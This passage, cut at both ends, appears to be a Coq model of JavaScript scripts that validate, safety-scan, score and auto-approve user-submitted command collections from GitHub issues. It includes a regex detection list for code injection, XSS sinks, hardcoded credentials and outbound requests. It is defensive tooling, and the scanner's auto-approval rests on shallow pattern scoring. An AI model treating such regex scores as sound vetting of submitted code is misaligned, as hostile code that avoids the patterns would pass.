    revision, on what its extractors answered; with an empty command list
    nothing is pushed after them. *)
Definition requiredFieldErrors_regex (metadataName metadataDescription
    contactInfo : string) (commands : list json) : list string :=
  let errors := [] in
  let errors :=
    if isEmpty metadataName
    then push errors "Collection name is required" else errors in
  let errors :=
    if isEmpty metadataDescription
    then push errors "Collection description is required" else errors in
  let errors :=
    if isEmpty contactInfo
    then push errors "Contact information (GitHub username) is required"
    else errors in
  let errors :=
    if (List.length commands =? 0)%nat
    then push errors "Commands JSON is required and must contain at least one command"
    else errors in
  errors.

(** *** [validateCollection(issueData, body)] *)

Definition validateCollection (issueData : GitHubIssue) (body : string)
    : result ValidationResult :=
  let errors := [] in
  let warnings := [] in
  metadata <- extractMetadata issueData body ;;
  commands <- extractCommands body ;;
  let contactInfo := extractContactInfo body in
  let errors :=
    if isEmpty (name metadata)
    then push errors ("Collection name is required") else errors in
  let errors :=
    if isEmpty (description metadata)
    then push errors ("Collection description is required") else errors in
  let errors :=
    if isEmpty contactInfo
    then push errors ("Contact information (GitHub username) is required")
    else errors in
  let errors :=
    if (List.length commands =? 0)%nat
    then push errors ("Commands JSON is required and must contain at least one command")
    else errors in
  st <-
    (if (0 <? List.length commands)%nat then
       st <- forEachCommand 0 commands (errors, warnings) ;;
       let warnings :=
         if negb (commandCount metadata =? 0)
            && negb (commandCount metadata =? Z.of_nat (List.length commands))
         then push (snd st) ("Declared command count (" ++ string_of_Z (commandCount metadata)
               ++ ") doesn't match actual count ("
               ++ string_of_Z (Z.of_nat (List.length commands)) ++ ")")
         else snd st in
       Ok (fst st, warnings)
     else Ok (errors, warnings)) ;;
  let errors := fst st in
  let warnings := snd st in
  let checklistSection := extractField body "Safety & Quality Checklist" in
  let hasCompletedChecklist :=
    includes checklistSection "- [x]" || includes checklistSection "- [X]" in
  let warnings :=
    if negb hasCompletedChecklist
    then push warnings ("Safety checklist not completed") else warnings in
  Ok {| valid := (List.length errors =? 0)%nat;
        errors := errors;
        warnings := warnings;
        score := calculateValidationScore (Z.of_nat (List.length errors))
                   (Z.of_nat (List.length warnings))
                   (Z.of_nat (List.length commands)) |}.

(** *** [parseIssue(issueData)] *)

Definition parseIssue (issueData : GitHubIssue) : result Collection :=
  let body := match body issueData with Some b => b | None => "" end in
  metadata <- extractMetadata issueData body ;;
  commands <- extractCommands body ;;
  let documentation := extractDocumentation body in
  validation <- validateCollection issueData body ;;
  Ok {| metadata := metadata;
        commands := commands;
        documentation := documentation;
        validation := validation;
        contactInfo := extractContactInfo body;
        issueInfo := {| info_number := number issueData;
                        info_url := html_url issueData;
                        info_submittedAt := created_at issueData;
                        info_submittedBy := user_login issueData |} |}.

End WithJsonParse.

End Parser.

(** ** ai-safety-check.js : class AISafetyChecker

    The remote inference call and the regular-expression engine are
    parameters.  [regexMatches p code] is the array [code.match(p)] of a
    global pattern, [null] being the empty list. *)

Module Scanner.
Import Js.

Record Command := {
  name : option string;
  description : option string;
  code : option string
}.

Record Issue := {
  severity : string;
  category : string;
  issue_description : string;
  recommendation : string
}.

Record CommandReport := {
  commandIndex : nat;
  commandName : string;
  c_safetyScore : Q;
  c_riskLevel : string;
  c_issues : list Issue;
  c_summary : string;
  c_autoApprove : bool
}.

Record Report := {
  safetyScore : Z;
  riskLevel : string;
  overallSummary : string;
  autoApprove : bool;
  commandReports : list CommandReport;
  totalIssues : Z;
  criticalIssues : Z;
  highIssues : Z;
  mediumIssues : Z;
  lowIssues : Z
}.

Record AISafetyChecker := {
  maxCodeLength : nat;
  githubToken : option string
}.

(** [constructor()], with the token of the environment. *)
Definition constructor (GITHUB_TOKEN : option string) : AISafetyChecker :=
  {| maxCodeLength := 10000; githubToken := GITHUB_TOKEN |}.

(** The regular expressions of the two tables of [simulateAIAnalysis], in
    the order of the source; all carry the flags [gi].  Below, Q stands
    for the character class of the three quote characters and NQ for its
    complement.

    - EvalCall          : eval\s*\(
    - FunctionCall      : Function\s*\(
    - SetTimeoutString  : setTimeout\s*\(\s*Q NQ* Q
    - SetIntervalString : setInterval\s*\(\s*Q NQ* Q
    - DocumentWrite     : document\.write
    - InnerHtmlAssign   : innerHTML\s*=
    - PasswordLiteral   : password\s*[:=]\s*Q NQ+ Q
    - ApiKeyLiteral     : api[_-]?key\s*[:=]\s*Q NQ+ Q
    - SecretLiteral     : secret\s*[:=]\s*Q NQ+ Q
    - TokenLiteral      : token\s*[:=]\s*Q NQ+ Q
    - ExternalUrl       : https?:\/\/(?!.*\.(dynamics|microsoft|office365)\.)[a-zA-Z0-9.-]+
    - FetchCall         : fetch\s*\(
    - XmlHttpRequest    : XMLHttpRequest
    - AjaxCall          : \.ajax\s*\(
    - LocalStorage      : localStorage
    - SessionStorage    : sessionStorage
    - Base64Call        : btoa\s*\(|atob\s*\(
    - TryCatch          : try\s*{[\s\S]*catch\s*\(
    - UserDialog        : (openAlertDialog|openErrorDialog|setFormNotification)
    - UseStrict         : the directive use strict in single quotes *)
Inductive Pattern :=
| EvalCall
| FunctionCall
| SetTimeoutString
| SetIntervalString
| DocumentWrite
| InnerHtmlAssign
| PasswordLiteral
| ApiKeyLiteral
| SecretLiteral
| TokenLiteral
| ExternalUrl
| FetchCall
| XmlHttpRequest
| AjaxCall
| LocalStorage
| SessionStorage
| Base64Call
| TryCatch
| UserDialog
| UseStrict.

Record DangerousPattern := {
  pattern : Pattern;
  d_severity : string;
  d_category : string;
  points : Z
}.

Definition dangerousPatterns : list DangerousPattern :=
  [ {| pattern := EvalCall; d_severity := "CRITICAL"; d_category := "Code Injection"; points := 50 |};
    {| pattern := FunctionCall; d_severity := "CRITICAL"; d_category := "Code Injection"; points := 50 |};
    {| pattern := SetTimeoutString; d_severity := "HIGH"; d_category := "Code Injection"; points := 30 |};
    {| pattern := SetIntervalString; d_severity := "HIGH"; d_category := "Code Injection"; points := 30 |};
    {| pattern := DocumentWrite; d_severity := "HIGH"; d_category := "XSS Risk"; points := 25 |};
    {| pattern := InnerHtmlAssign; d_severity := "MEDIUM"; d_category := "XSS Risk"; points := 15 |};
    {| pattern := PasswordLiteral; d_severity := "CRITICAL"; d_category := "Hardcoded Credentials"; points := 40 |};
    {| pattern := ApiKeyLiteral; d_severity := "CRITICAL"; d_category := "Hardcoded Credentials"; points := 40 |};
    {| pattern := SecretLiteral; d_severity := "CRITICAL"; d_category := "Hardcoded Credentials"; points := 40 |};
    {| pattern := TokenLiteral; d_severity := "HIGH"; d_category := "Hardcoded Credentials"; points := 30 |};
    {| pattern := ExternalUrl; d_severity := "MEDIUM"; d_category := "External Requests"; points := 20 |};
    {| pattern := FetchCall; d_severity := "MEDIUM"; d_category := "External Requests"; points := 15 |};
    {| pattern := XmlHttpRequest; d_severity := "MEDIUM"; d_category := "External Requests"; points := 15 |};
    {| pattern := AjaxCall; d_severity := "MEDIUM"; d_category := "External Requests"; points := 15 |};
    {| pattern := LocalStorage; d_severity := "LOW"; d_category := "Data Storage"; points := 10 |};
    {| pattern := SessionStorage; d_severity := "LOW"; d_category := "Data Storage"; points := 10 |};
    {| pattern := Base64Call; d_severity := "LOW"; d_category := "Data Encoding"; points := 5 |} ].

Definition positivePatterns : list (Pattern * Z) :=
  [ (TryCatch, 5); (UserDialog, 3); (UseStrict, 2) ].

(** [getRecommendation(category, severity)] *)
Definition getRecommendation (category severity : string) : string :=
  let recommendations :=
    [ ("Code Injection",
       "Remove or replace with safe alternatives. Never use eval() or Function() constructor.");
      ("XSS Risk", "Sanitize all user inputs and use safe DOM manipulation methods.");
      ("Hardcoded Credentials",
       "Remove hardcoded credentials and use secure configuration management.");
      ("External Requests", "Ensure external requests are to trusted domains and use HTTPS.");
      ("Data Storage", "Avoid storing sensitive data in browser storage.");
      ("Data Encoding", "Ensure encoded data is not used for security purposes.") ] in
  match find (fun entry => String.eqb (fst entry) category) recommendations with
  | Some entry => snd entry
  | None => "Review and address the identified security concern."
  end.

(** [determineRiskLevel(safetyScore)] *)
Definition determineRiskLevel (safetyScore : Q) : string :=
  if Qle_bool 90 safetyScore then "LOW"
  else if Qle_bool 70 safetyScore then "MEDIUM"
  else if Qle_bool 50 safetyScore then "HIGH"
  else "CRITICAL".

Definition countSeverity (sev : string) (issues : list Issue) : nat :=
  List.length (filter (fun i => String.eqb (severity i) sev) issues).

(** [generateCommandSummary(safetyScore, issues)] *)
Definition generateCommandSummary (safetyScore : Q) (issues : list Issue) : string :=
  if (List.length issues =? 0)%nat then
    "No security issues detected. Code appears safe."
  else
    let criticalCount := countSeverity "CRITICAL" issues in
    let highCount := countSeverity "HIGH" issues in
    if (0 <? criticalCount)%nat then
      "Critical security issues detected (" ++ string_of_Z (Z.of_nat criticalCount)
      ++ "). Manual review required."
    else if (0 <? highCount)%nat then
      "High-severity issues detected (" ++ string_of_Z (Z.of_nat highCount)
      ++ "). Consider addressing before approval."
    else
      "Minor security concerns detected (" ++ string_of_Z (Z.of_nat (List.length issues))
      ++ "). Generally safe but could be improved.".

(** [command.name || `Command ${index + 1}`] *)
Definition nameOrNumbered (command : Command) (index : nat) : string :=
  match name command with
  | Some n => orElse n ("Command " ++ string_of_Z (Z.of_nat index + 1))
  | None => "Command " ++ string_of_Z (Z.of_nat index + 1)
  end.

Section WithEngines.
Variable regexMatches : Pattern -> string -> list string.
(** The request to the inference service with a token at hand; its
    answer is the analysis already checked and clamped by the response
    handler, with issues that are objects; a rejected promise is a [Throw].
    The handler also lets through an answer whose array of issues holds
    [null]: the tally of [performSafetyCheck] then throws after the report
    is pushed and its [catch] pushes a second report for the command.  Such
    an answer is not among the values of the type of the answers. *)
Variable inference : string -> Command -> string -> result CommandReport.

(** The callback of [dangerousPatterns.forEach]; the state is the pair
    of [issues] and [safetyScore]. *)
Definition scanDangerous (code : string) (st : list Issue * Z)
    (p : DangerousPattern) : list Issue * Z :=
  fold_left
    (fun st found =>
       (push (fst st)
          {| severity := d_severity p;
             category := d_category p;
             issue_description := "Found potentially dangerous pattern: " ++ found;
             recommendation := getRecommendation (d_category p) (d_severity p) |},
        snd st - points p))
    (regexMatches (pattern p) code) st.

(** The callback of [positivePatterns.forEach]. *)
Definition scanPositive (code : string) (safetyScore : Z) (p : Pattern * Z) : Z :=
  match regexMatches (fst p) code with
  | [] => safetyScore
  | _ :: _ => safetyScore + snd p
  end.

(** [simulateAIAnalysis(command, index, code)] *)
Definition simulateAIAnalysis (command : Command) (index : nat) (code : string)
    : CommandReport :=
  let issues := [] in
  let safetyScore := 100 in
  let st := fold_left (scanDangerous code) dangerousPatterns (issues, safetyScore) in
  let issues := fst st in
  let safetyScore := fold_left (scanPositive code) positivePatterns (snd st) in
  let safetyScore := Z.max 0 (Z.min 100 safetyScore) in
  let riskLevel := determineRiskLevel (inject_Z safetyScore) in
  let autoApprove :=
    (75 <=? safetyScore) && (countSeverity "CRITICAL" issues =? 0)%nat in
  {| commandIndex := index;
     commandName := nameOrNumbered command index;
     c_safetyScore := inject_Z safetyScore;
     c_riskLevel := riskLevel;
     c_issues := issues;
     c_summary := generateCommandSummary (inject_Z safetyScore) issues;
     c_autoApprove := autoApprove |}.

(** [callGitHubModelsAPI(command, code)] *)
Definition callGitHubModelsAPI (this : AISafetyChecker) (command : Command)
    (code : string) : result CommandReport :=
  match githubToken this with
  | None => Throw "GitHub token not available, falling back to simulation"
  | Some token =>
      if isEmpty token
      then Throw "GitHub token not available, falling back to simulation"
      else inference token command code
  end.

(** [analyzeCommand(command, index)] *)
Definition analyzeCommand (this : AISafetyChecker) (command : Command) (index : nat)
    : result CommandReport :=
  match code command with
  | None | Some EmptyString =>
      Ok {| commandIndex := index;
            commandName := nameOrNumbered command index;
            c_safetyScore := 100;
            c_riskLevel := "LOW";
            c_issues := [];
            c_summary := "No code to analyze";
            c_autoApprove := true |}
  | Some code =>
      let codeToAnalyze :=
        if (maxCodeLength this <? String.length code)%nat
        then takeChars (maxCodeLength this) code
             ++ nl ++ "// ... (code truncated for analysis)"
        else code in
      try_catch
        (aiResponse <- callGitHubModelsAPI this command codeToAnalyze ;;
         Ok {| commandIndex := index;
               commandName := nameOrNumbered command index;
               c_safetyScore := c_safetyScore aiResponse;
               c_riskLevel := c_riskLevel aiResponse;
               c_issues := c_issues aiResponse;
               c_summary := c_summary aiResponse;
               c_autoApprove := c_autoApprove aiResponse |})
        (fun error => Ok (simulateAIAnalysis command index codeToAnalyze))
  end.

(** The [switch] on the severity of one issue, with [totalIssues++]. *)
Definition countIssue (report : Report) (issue : Issue) : Report :=
  let sev := severity issue in
  {| safetyScore := safetyScore report;
     riskLevel := riskLevel report;
     overallSummary := overallSummary report;
     autoApprove := autoApprove report;
     commandReports := commandReports report;
     totalIssues := totalIssues report + 1;
     criticalIssues :=
       if String.eqb sev "CRITICAL" then criticalIssues report + 1
       else criticalIssues report;
     highIssues :=
       if String.eqb sev "HIGH" then highIssues report + 1 else highIssues report;
     mediumIssues :=
       if String.eqb sev "MEDIUM" then mediumIssues report + 1
       else mediumIssues report;
     lowIssues :=
       if String.eqb sev "LOW" then lowIssues report + 1 else lowIssues report |}.

Definition pushCommandReport (report : Report) (c : CommandReport) : Report :=
  {| safetyScore := safetyScore report;
     riskLevel := riskLevel report;
     overallSummary := overallSummary report;
     autoApprove := autoApprove report;
     commandReports := push (commandReports report) c;
     totalIssues := totalIssues report;
     criticalIssues := criticalIssues report;
     highIssues := highIssues report;
     mediumIssues := mediumIssues report;
     lowIssues := lowIssues report |}.

(** The [catch] block of the loop of [performSafetyCheck]. *)
Definition recordFailure (report : Report) (command : Command) (i : nat)
    (error : string) : Report :=
  let report :=
    pushCommandReport report
      {| commandIndex := i;
         commandName := nameOrNumbered command i;
         c_safetyScore := 0;
         c_riskLevel := "CRITICAL";
         c_issues :=
           [ {| severity := "CRITICAL";
                category := "Analysis Error";
                issue_description := "Failed to analyze command: " ++ error;
                recommendation := "Manual review required due to analysis failure" |} ];
         c_summary := "Analysis failed";
         c_autoApprove := false |} in
  {| safetyScore := safetyScore report;
     riskLevel := riskLevel report;
     overallSummary := overallSummary report;
     autoApprove := autoApprove report;
     commandReports := commandReports report;
     totalIssues := totalIssues report + 1;
     criticalIssues := criticalIssues report + 1;
     highIssues := highIssues report;
     mediumIssues := mediumIssues report;
     lowIssues := lowIssues report |}.

(** The [for] loop of [performSafetyCheck]. *)
Fixpoint checkCommands (this : AISafetyChecker) (i : nat) (commands : list Command)
    (report : Report) : Report :=
  match commands with
  | [] => report
  | command :: rest =>
      let report :=
        match analyzeCommand this command i with
        | Ok commandReport =>
            fold_left countIssue (c_issues commandReport)
              (pushCommandReport report commandReport)
        | Throw error => recordFailure report command i error
        end in
      checkCommands this (S i) rest report
  end.

(** [calculateOverallScores(report)] *)
Definition calculateOverallScores (report : Report) : Report :=
  if (List.length (commandReports report) =? 0)%nat then
    {| safetyScore := 0;
       riskLevel := "CRITICAL";
       overallSummary := "No commands analyzed";
       autoApprove := false;
       commandReports := commandReports report;
       totalIssues := totalIssues report;
       criticalIssues := criticalIssues report;
       highIssues := highIssues report;
       mediumIssues := mediumIssues report;
       lowIssues := lowIssues report |}
  else
    let totalScore :=
      fold_left (fun sum cmd => (sum + c_safetyScore cmd)%Q)
        (commandReports report) 0%Q in
    let safetyScore :=
      Math_round (totalScore / inject_Z (Z.of_nat (List.length (commandReports report)))) in
    {| safetyScore := safetyScore;
       riskLevel := determineRiskLevel (inject_Z safetyScore);
       overallSummary :=
         "Analyzed " ++ string_of_Z (Z.of_nat (List.length (commandReports report)))
         ++ " commands. Safety score: " ++ string_of_Z safetyScore ++ "/100. Issues: "
         ++ string_of_Z (totalIssues report) ++ " total ("
         ++ string_of_Z (criticalIssues report) ++ " critical, "
         ++ string_of_Z (highIssues report) ++ " high).";
       autoApprove :=
         (75 <=? safetyScore) && (criticalIssues report =? 0)
         && forallb c_autoApprove (commandReports report);
       commandReports := commandReports report;
       totalIssues := totalIssues report;
       criticalIssues := criticalIssues report;
       highIssues := highIssues report;
       mediumIssues := mediumIssues report;
       lowIssues := lowIssues report |}.

(** [performSafetyCheck], on the commands of the issue data already
    read ([issueData.commands || []]). *)
Definition performSafetyCheck (this : AISafetyChecker) (commands : list Command)
    : result Report :=
  if (List.length commands =? 0)%nat then Throw "No commands found in collection"
  else
    let report :=
      {| safetyScore := 100;
         riskLevel := "LOW";
         overallSummary := "";
         autoApprove := false;
         commandReports := [];
         totalIssues := 0;
         criticalIssues := 0;
         highIssues := 0;
         mediumIssues := 0;
         lowIssues := 0 |} in
    Ok (calculateOverallScores (checkCommands this 0 commands report)).

End WithEngines.

End Scanner.

(** ** calculate-approval-score.js : class ApprovalScoreCalculator

    The revision with three inputs: validation, the CodeQL security report
    and the AI safety report. *)

Module Approval.
Import Js.

Record Weights := {
  w_security : Q;
  w_aiSafety : Q;
  w_validation : Q
}.

Record Thresholds := {
  t_autoApprove : Z;
  t_manualReview : Z;
  t_reject : Z
}.

Record ApprovalScoreCalculator := {
  weights : Weights;
  thresholds : Thresholds
}.

(** [constructor()] *)
Definition constructor : ApprovalScoreCalculator := {|
  weights := {| w_security := double (5 # 10);
                w_aiSafety := double (3 # 10);
                w_validation := double (2 # 10) |};
  thresholds := {| t_autoApprove := 80; t_manualReview := 60; t_reject := 30 |}
|}.

(** The three JSON documents the calculator loads. *)
Record Validation := {
  errors : option (list string);
  warnings : option (list string);
  score : option Q
}.

Record IssueData := { validation : option Validation }.

Record SecuritySummary := {
  securityIssues : option Q;
  errorCount : option Q
}.

Record SecurityReport := {
  securityScore : option Q;
  sec_riskLevel : option string;
  sec_summary : option SecuritySummary
}.

Record Issue := {
  severity : string;
  category : string;
  description : string
}.

Record AISafetyReport := {
  safetyScore : option Q;
  ai_riskLevel : option string;
  issues : option (list Issue);
  ai_autoApprove : option bool
}.

(** The report under construction. *)
Record Scores := {
  s_validation : Q;
  s_security : Q;
  s_aiSafety : Q
}.

Inductive Recommendation := Unset | AUTO_APPROVE | MANUAL_REVIEW | REJECT.

(** An entry of [details.recommendations]: [determineApprovalStatus] pushes
    a priority with a message, [generateRecommendations] a priority with an
    action and a description. *)
Record Advice := {
  priority : string;
  message : option string;
  action : option string;
  advice_description : option string
}.

Definition note (priority message : string) : Advice :=
  {| priority := priority; message := Some message;
     action := None; advice_description := None |}.

Definition advice (priority action description : string) : Advice :=
  {| priority := priority; message := None;
     action := Some action; advice_description := Some description |}.

Record Report := {
  overallScore : Z;
  autoApprove : bool;
  recommendation : Recommendation;
  scores : Scores;
  details_issues : list string;
  details_warnings : list string;
  details_recommendations : list Advice
}.

(** [calculateWeightedScore(scores)]: three products and two sums of
    doubles, from left to right, then [Math.round]. *)
Definition calculateWeightedScore (this : ApprovalScoreCalculator) (scores : Scores) : Z :=
  let weightedScore :=
    plus
      (plus (times (s_validation scores) (w_validation (weights this)))
            (times (s_security scores) (w_security (weights this))))
      (times (s_aiSafety scores) (w_aiSafety (weights this))) in
  Math_round weightedScore.

Record BlockingCondition := { condition : bool; reason : string }.

(** The array literal [blockingConditions] of [determineApprovalStatus]. *)
Definition blockingConditions (this : ApprovalScoreCalculator) (overallScore : Z)
    (issueData : option IssueData) (securityReport : option SecurityReport)
    (aiSafetyReport : option AISafetyReport) : list BlockingCondition :=
  [ {| condition :=
         match issueData ?. validation ?. errors with
         | Some es => (0 <? Z.of_nat (List.length es))
         | None => false
         end;
       reason := "Validation errors detected" |};
    {| condition :=
         opt_gt (securityReport ?. sec_summary ?. securityIssues) 0;
       reason := "Security vulnerabilities detected by CodeQL" |};
    {| condition :=
         truthy (option_map
                   (existsb (fun issue => String.eqb (severity issue) "CRITICAL"))
                   (aiSafetyReport ?. issues));
       reason := "Critical security issues detected by AI analysis" |};
    {| condition := opt_is (securityReport ?. sec_riskLevel) "CRITICAL";
       reason := "Critical security risk level (CodeQL)" |};
    {| condition := opt_is (aiSafetyReport ?. ai_riskLevel) "CRITICAL";
       reason := "Critical AI safety risk level" |};
    {| condition := overallScore <? t_reject (thresholds this);
       reason := "Overall score (" ++ string_of_Z overallScore
                 ++ ") below rejection threshold ("
                 ++ string_of_Z (t_reject (thresholds this)) ++ ")" |} ].

(** [hasNoBlockingIssues(securityReport, aiSafetyReport)] *)
Definition hasNoBlockingIssues (securityReport : option SecurityReport)
    (aiSafetyReport : option AISafetyReport) : bool :=
  let codeqlBlocking :=
    Qgtb (orZero (securityReport ?. sec_summary ?. errorCount)) 0 in
  let aiBlocking :=
    truthy (option_map
              (existsb (fun issue =>
                 existsb (String.eqb (severity issue)) ["CRITICAL"; "HIGH"]))
              (aiSafetyReport ?. issues)) in
  negb codeqlBlocking && negb aiBlocking.

Definition set_outcome (report : Report) (a : bool) (r : Recommendation)
    (iss : list string) (recs : list Advice) : Report :=
  {| overallScore := overallScore report;
     autoApprove := a;
     recommendation := r;
     scores := scores report;
     details_issues := details_issues report ++ iss;
     details_warnings := details_warnings report;
     details_recommendations := details_recommendations report ++ recs |}.

(** [determineApprovalStatus(report, issueData, securityReport, aiSafetyReport)];
    the mutated [report] is returned. *)
Definition determineApprovalStatus (this : ApprovalScoreCalculator) (report : Report)
    (issueData : option IssueData) (securityReport : option SecurityReport)
    (aiSafetyReport : option AISafetyReport) : Report :=
  let overallScore := overallScore report in
  let blockingIssue :=
    find condition
      (blockingConditions this overallScore issueData securityReport aiSafetyReport) in
  match blockingIssue with
  | Some blockingIssue =>
      set_outcome report false REJECT [reason blockingIssue] []
  | None =>
      if t_autoApprove (thresholds this) <=? overallScore then
        let codeqlPassed :=
          opt_ge (securityReport ?. securityScore) 80 in
        let aiPassed :=
          opt_ge (aiSafetyReport ?. safetyScore) 75
          && match aiSafetyReport ?. ai_autoApprove with
             | Some true => true
             | _ => false
             end in
        if (codeqlPassed || aiPassed)
           && hasNoBlockingIssues securityReport aiSafetyReport then
          set_outcome report true AUTO_APPROVE []
            [ if codeqlPassed && aiPassed then
                note "INFO" "Passed both CodeQL and AI validation with high confidence"
              else if codeqlPassed then
                note "INFO"
                  "Auto-approved based on CodeQL analysis (AI validation supplementary)"
              else
                note "INFO"
                  "Auto-approved based on AI analysis (CodeQL provided additional context)" ]
        else
          set_outcome report false MANUAL_REVIEW
            ["Score meets threshold but validation conditions not satisfied"] []
      else if t_manualReview (thresholds this) <=? overallScore then
        set_outcome report false MANUAL_REVIEW [] []
      else
        set_outcome report false REJECT
          ["Score (" ++ string_of_Z overallScore
           ++ ") below manual review threshold ("
           ++ string_of_Z (t_manualReview (thresholds this)) ++ ")"] []
  end.

(** [generateRecommendations(report, ...)]: the list that replaces
    [details.recommendations]. *)
Definition generateRecommendations (report : Report) : Report :=
  let recommendations := [] in
  let recommendations :=
    match recommendation report with
    | AUTO_APPROVE =>
        push recommendations
          (advice "INFO" "Collection will be automatically processed and published"
             "All security and quality checks passed")
    | MANUAL_REVIEW =>
        push recommendations
          (advice "HIGH" "Schedule manual review with maintainer"
             "Collection meets basic requirements but needs human verification")
    | REJECT =>
        push recommendations
          (advice "CRITICAL" "Address critical issues before resubmission"
             "Collection has significant issues that must be resolved")
    | Unset => recommendations
    end in
  let recommendations :=
    if Qgtb 80 (s_validation (scores report)) then
      push recommendations
        (advice "MEDIUM" "Improve code quality and documentation"
           "Add missing documentation, follow naming conventions, and improve code structure")
    else recommendations in
  let recommendations :=
    if Qgtb 80 (s_security (scores report)) then
      push recommendations
        (advice "HIGH" "Address security vulnerabilities"
           "Fix security issues identified by static analysis tools")
    else recommendations in
  let recommendations :=
    if Qgtb 80 (s_aiSafety (scores report)) then
      push recommendations
        (advice "HIGH" "Review and fix security patterns"
           "Address potentially dangerous code patterns identified by AI analysis")
    else recommendations in
  {| overallScore := overallScore report;
     autoApprove := autoApprove report;
     recommendation := recommendation report;
     scores := scores report;
     details_issues := details_issues report;
     details_warnings := details_warnings report;
     details_recommendations := recommendations |}.

(** [calculateApprovalScore], on the three documents already loaded by
    [loadJsonFile] ([None] is the [null] of a missing or unreadable file).
    Reading [issueData.validation] of a [null] document is a TypeError.  Of
    [generateFeedback] the final call of [generateRecommendations] is
    embedded; the [feedback] text, which no decision reads, is not part of
    the report here. *)
Definition calculateApprovalScore (this : ApprovalScoreCalculator)
    (issueData : option IssueData) (securityReport : option SecurityReport)
    (aiSafetyReport : option AISafetyReport) : result Report :=
  match issueData with
  | None => Throw "Cannot read properties of null (reading 'validation')"
  | Some d =>
      let scores := {|
        s_validation := orZero (validation d ?. score);
        s_security := orZero (securityReport ?. securityScore);
        s_aiSafety := orZero (aiSafetyReport ?. safetyScore) |} in
      let report := {|
        overallScore := 0;
        autoApprove := false;
        recommendation := Unset;
        scores := scores;
        details_issues := [];
        details_warnings := [];
        details_recommendations := [] |} in
      let report := {|
        overallScore := calculateWeightedScore this (Approval.scores report);
        autoApprove := autoApprove report;
        recommendation := recommendation report;
        scores := Approval.scores report;
        details_issues := details_issues report;
        details_warnings := details_warnings report;
        details_recommendations := details_recommendations report |} in
      let report :=
        determineApprovalStatus this report issueData securityReport aiSafetyReport in
      Ok (generateRecommendations report)
  end.

End Approval.

(** ** scripts/organize-collection.js : class CollectionOrganizer

    The issue data is the document [parseIssue] wrote.  The clock is a
    parameter [now] of each run; all readings of the clock within one call
    give that instant.  Of the file system, the profile file of each author
    is modelled; the other artifacts are returned as values. *)

Module Organizer.
Import Js Json Crypto.

(** [`${x}`] for a string that may be [undefined]. *)
Definition renderString (o : option string) : string :=
  match o with Some s => s | None => "undefined" end.

(** [generateCollectionId(issueData)] *)
Definition collectionIdData (issueData : Parser.Collection) : string :=
  Parser.name (Parser.metadata issueData) ++ "-"
  ++ renderString (Parser.submittedBy (Parser.metadata issueData)) ++ "-"
  ++ string_of_Z (Parser.info_number (Parser.issueInfo issueData)).

Definition generateCollectionId (issueData : Parser.Collection) : string :=
  let data := collectionIdData issueData in
  takeChars 8 (md5hex data).

(** The two halves of the text hashed by [generateCommandId]:
    [command.name || `cmd-${index}`] and
    [command.code?.substring(0, 100) || '']. *)
Definition commandNamePart (command : json) (index : nat) : result string :=
  cname <- getProp command "name" ;;
  if truthyValue cname then renderOpt cname
  else Ok ("cmd-" ++ string_of_Z (Z.of_nat index)).

Definition commandCodePart (command : json) : result string :=
  ccode <- getProp command "code" ;;
  match ccode with
  | None | Some JNull => Ok ""
  | Some (JStr code) => Ok (takeChars 100 code)
  | Some _ => Throw "command.code?.substring is not a function"
  end.

(** [generateCommandId(command, index)] *)
Definition generateCommandId (command : json) (index : nat) : result string :=
  namePart <- commandNamePart command index ;;
  codePart <- commandCodePart command ;;
  let data := namePart ++ "-" ++ codePart in
  Ok (takeChars 8 (md5hex data)).

(** [sanitizeFileName(name)] *)
Definition isFileNameChar (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((97 <=? n) && (n <=? 122)) || ((48 <=? n) && (n <=? 57))
   || isSpace c || (n =? 45))%nat.

Fixpoint keepFileNameChars (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      if isFileNameChar c then String c (keepFileNameChars r)
      else keepFileNameChars r
  end.

(** [.replace(/\s+/g, '-')]: every run of white space becomes one dash. *)
Fixpoint dashSpaces (inRun : bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r =>
      if isSpace c then
        if inRun then dashSpaces true r else String "-"%char (dashSpaces true r)
      else String c (dashSpaces false r)
  end.

Definition sanitizeFileName (name : string) : string :=
  takeChars 50 (dashSpaces false (keepFileNameChars (toLowerCase name))).

(** The artifacts of [generateCollectionFiles]. *)
Record Source := {
  issueNumber : Z;
  issueUrl : string;
  repository : string
}.

Record CollectionStats := { downloads : Z; rating : Z; votes : Z }.

Record CollectionMetadata := {
  id : string;
  name : string;
  description : string;
  category : string;
  tags : list string;
  author : option string;
  submittedBy : option string;
  submittedAt : string;
  processedAt : string;
  dynamicsVersion : string;
  commandCount : Z;
  autoApproved : bool;
  version : string;
  source : Source;
  documentation : Parser.Documentation;
  stats : CollectionStats
}.

Record CommandEntry := {
  cmd_id : string;
  cmd_name : option json;
  cmd_description : json;
  cmd_category : json;
  cmd_code : option json;
  cmd_icon : json;
  cmd_tags : json;
  cmd_author : option json;
  cmd_version : string;
  cmd_createdAt : string
}.

Record CollectionData := {
  collectionMetadata : CollectionMetadata;
  commands : list CommandEntry
}.

Record CommandFile := {
  file_id : string;
  file_name : option json;
  fileName : string;
  path : string;
  content : string
}.

Record LevelUpCommand := {
  lu_name : option json;
  lu_description : json;
  lu_code : option json;
  lu_icon : json
}.

Record LevelUpImport := {
  lu_version : string;
  lu_exportedAt : string;
  lu_source : string;
  lu_collection : string * string * option string * string;
  lu_commands : list LevelUpCommand
}.

Record CollectionInfo := {
  collectionId : string;
  collectionPath : string;
  levelUpImportPath : string;
  commandFiles : list CommandFile;
  totalCommands : Z;
  collectionFileName : string;
  collectionData : CollectionData;
  levelUpData : LevelUpImport
}.

(** *** [path.join] of Node, on POSIX paths

    After the documentation of the [path] module: the non-empty arguments
    are joined with [/] and the result is normalized.  Empty segments and
    [.] segments are dropped, a [..] segment takes back the segment before
    it, or stays when there is none to take back and the path is relative;
    a leading and a trailing [/] are kept; the empty path is [.]. *)

(** One segment onto the segments kept so far, the last of them first. *)
Definition normalizeSegment (allowAboveRoot : bool) (kept : list string)
    (segment : string) : list string :=
  if isEmpty segment || String.eqb segment "." then kept
  else if String.eqb segment ".." then
    match kept with
    | top :: rest =>
        if String.eqb top ".."
        then (if allowAboveRoot then segment :: kept else kept)
        else rest
    | [] => if allowAboveRoot then [segment] else []
    end
  else segment :: kept.

(** [path.normalize(path)] *)
Definition normalize (path : string) : string :=
  if isEmpty path then "."
  else
    let isAbsolute := startsWith path "/" in
    let trailingSeparator := endsWith path "/" in
    let kept :=
      fold_left (normalizeSegment (negb isAbsolute)) (split "/"%char path) [] in
    let path := join "/" (rev kept) in
    if isEmpty path then
